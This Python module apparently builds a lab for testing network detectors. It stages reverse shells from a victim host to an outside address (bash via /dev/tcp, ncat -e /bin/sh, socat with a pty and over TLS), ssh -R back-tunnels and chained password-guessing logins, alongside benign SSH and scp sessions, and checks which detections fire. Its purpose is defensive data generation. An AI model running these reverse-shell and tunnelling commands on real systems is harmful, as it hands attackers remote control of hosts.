"""Shells that are sent out of the network, tunnels back through SSH, chains of log-ins, and ordinary sessions."""

import os
import pty
import random
import socket
import subprocess
import time

import logins
import servers
from network import run

SESSION = ("id", "uname -a", "ls -la /etc", "cat /etc/passwd", "ls -la /usr/bin | head -200", "ss -tn")


def listener(port, lines, by_key):
    """Waits for a shell and types, line by line or key by key; reads what comes."""
    server = socket.create_server(("0.0.0.0", port))
    connection, _ = server.accept()
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    time.sleep(1)
    type_into(connection.sendall, lines, by_key)
    connection.settimeout(2)
    try:
        while connection.recv(65536):
            pass
    except TimeoutError:
        pass
    connection.close()


def type_into(send, lines, by_key, seed=5):
    """As somebody types: keys 80 to 350 ms apart, a look at what came after each line."""
    numbers = random.Random(seed)
    for line in lines:
        if by_key:
            for key in line:
                send(key.encode())
                time.sleep(numbers.uniform(0.08, 0.35))
            send(b"\r")
        else:
            send(line.encode() + b"\n")
        time.sleep(numbers.uniform(2.1, 3))


def sent_out(lab, command, by_key=False):
    """A host at home runs `command`, by which it gives a shell to somebody outside, who types."""
    lab.router()
    outside = lab.outside("outside", "203.0.113.9")
    victim = lab.host("victim", "10.0.0.5")
    listening = outside.do(listener, 4444, SESSION, by_key)
    outside.wait_for(4444)
    with lab.recorded(), lab.expect("c2-interactive-reverse/shell-banner", of=victim):
        shell = victim.start(*command)
        listening.wait()
        shell.terminate()


def bash(lab):
    """bash gives itself to somebody outside through /dev/tcp; lines are typed."""
    sent_out(lab, ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])


def ncat(lab):
    """ncat gives a shell without a prompt to somebody outside."""
    sent_out(lab, ["ncat", "-e", "/bin/sh", "203.0.113.9", 4444])


def terminal(lab):
    """socat gives a whole terminal to somebody outside, who types key by key."""
    sent_out(lab, ["socat", "exec:bash -i,pty,stderr,setsid,sigint,sane", "tcp:203.0.113.9:4444,nodelay"], by_key=True)


def tls(lab):
    """The same in TLS: only times and sizes are to be seen."""
    lab.router()
    outside, victim = lab.outside("outside", "203.0.113.9"), lab.host("victim", "10.0.0.5")
    pem = lab.folder / "cert.pem"
    run(
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-subj",
        "/CN=update.test",
        "-keyout",
        pem,
        "-out",
        lab.folder / "crt",
    )
    pem.write_text(pem.read_text() + (lab.folder / "crt").read_text())
    listening = outside.do(listener, 4445, SESSION, True)
    outside.start("socat", f"openssl-listen:443,cert={pem},verify=0,nodelay", "tcp:127.0.0.1:4445,nodelay")
    outside.wait_for(443, 4445)
    with lab.recorded(), lab.expect("c2-interactive-reverse/keystrokes", of=victim):
        shell = victim.start(
            "socat", "exec:bash -i,pty,stderr,setsid,sigint,sane", "openssl:203.0.113.9:443,verify=0,nodelay"
        )
        listening.wait()
        shell.terminate()


def ssh(who, address, *words):
    """OpenSSH's client with a password."""
    return ["sshpass", "-p", servers.PEOPLE[who], "ssh", *servers.SSH, f"{who}@{address}", *words]


def typed_session(host, command, lines):
    """Somebody types into a session of `command` on a terminal."""

    def work():
        child, terminal = pty.fork()
        if child == 0:
            os.execvp(command[0], [str(c) for c in command])
        reading = subprocess.Popen(["cat"], stdin=terminal, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(3)
        type_into(lambda data: os.write(terminal, data), lines, True)
        os.write(terminal, b"exit\r")
        time.sleep(1)
        reading.terminate()

    return host.do(work)


def forwarded(lab):
    """`ssh -R` opens a way back in; somebody outside logs in through it and types."""
    servers.people(lab)
    lab.router()
    outside, victim = lab.outside("outside", "203.0.113.9"), lab.host("victim", "10.0.0.5")
    servers.sshd(lab, outside)
    servers.sshd(lab, victim)
    with lab.recorded(), lab.expect("c2-interactive-reverse/keystrokes", of=victim):
        back = victim.start(*ssh("bob", outside.address, "-N", "-R", "2222:127.0.0.1:22"))
        outside.wait_for(2222)
        typed_session(outside, ssh("alice", "127.0.0.1", "-p", "2222"), SESSION).wait()
        back.terminate()


def sessions(lab):
    """People at work: one types in a session with a machine outside, one copies files there and back by scp."""
    servers.people(lab)
    lab.router()
    outside, first, second = (
        lab.outside("outside", "203.0.113.9"),
        lab.host("first", "10.0.0.5"),
        lab.host("second", "10.0.0.6"),
    )
    servers.sshd(lab, outside)
    data = lab.folder / "data.bin"
    data.write_bytes(random.Random(1).randbytes(500_000))
    with lab.recorded():
        typing = typed_session(first, ssh("alice", outside.address), SESSION)
        for n in range(5):
            there = f"bob@{outside.address}:{lab.folder}/home/bob/{n}.bin"
            copy = ["sshpass", "-p", servers.PEOPLE["bob"], "scp", *servers.SSH]
            second.run(*copy, data, there)
            second.run(*copy, there, lab.folder / "back.bin")
        typing.wait()


def chain(lab):
    """From host to host to host by passwords that were guessed."""
    servers.people(lab)
    hosts = [lab.host(f"host{n}", f"10.0.0.{5 + n}") for n in range(4)]
    for host in hosts[1:]:
        servers.sshd(lab, host)
    lab.involve(*hosts)
    begun = time.time()
    with lab.recorded():
        for source, target in zip(hosts, hosts[1:], strict=False):
            with lab.expect("password-guessing/single/success", of=source):
                source.do(logins.guess, logins.paramiko_login, target.address, "alice", logins.WORDS[:35]).wait()
        lab.must_say(["lateral-chain/hop"], hosts[0], begun, time.time())


def jump(lab):
    """An administrator goes through a jump host to a server, once."""
    servers.people(lab)
    admin, jump_host, server = (lab.host(n, f"10.0.0.{5 + i}") for i, n in enumerate(("admin", "jump", "server")))
    for host in (jump_host, server):
        servers.sshd(lab, host)
    inner = " ".join(map(str, ssh("bob", server.address, "uptime; df -h; ls -la /var/log")))
    with lab.recorded():
        admin.run(*ssh("alice", jump_host.address, f"uptime; nsenter --net=/run/netns/jump {inner}"), check=False)
        jump_host.run(*ssh("bob", server.address, "uptime; df -h; ls -la /var/log"))
